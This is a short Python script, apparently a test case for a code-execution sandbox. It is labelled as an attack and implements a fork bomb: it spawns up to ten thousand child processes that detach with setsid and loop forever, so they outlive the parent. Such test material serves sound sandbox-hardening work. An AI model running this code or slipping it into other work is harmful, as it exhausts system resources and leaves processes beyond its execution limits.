# attack: a fork bomb whose processes stay behind as daemons
# base: solution
import os
import time

children = 0
try:
    for _ in range(10_000):
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(1)
        children += 1
except OSError:
    pass
